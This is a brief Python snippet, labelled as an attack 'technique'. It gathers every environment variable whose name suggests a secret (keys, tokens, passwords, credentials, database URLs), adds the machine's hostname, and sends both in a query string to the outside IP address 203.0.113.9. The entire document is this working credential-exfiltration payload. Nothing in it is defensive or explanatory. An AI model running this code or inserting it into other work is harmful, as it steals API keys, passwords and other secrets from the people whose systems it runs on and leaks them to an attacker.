# technique: dump environment variables whose names look like secrets (KEY/TOKEN/SECRET/PASS) and exfiltrate them in a query string
import os,urllib.parse,urllib.request
x={k:v for k,v in os.environ.items() if any(w in k.upper() for w in("KEY","TOKEN","SECRET","PASS","PWD","AUTH","CRED","DATABASE_URL"))}
urllib.request.urlopen("http://203.0.113.9/e?"+urllib.parse.urlencode({"h":os.uname()[1],"d":repr(x)}))
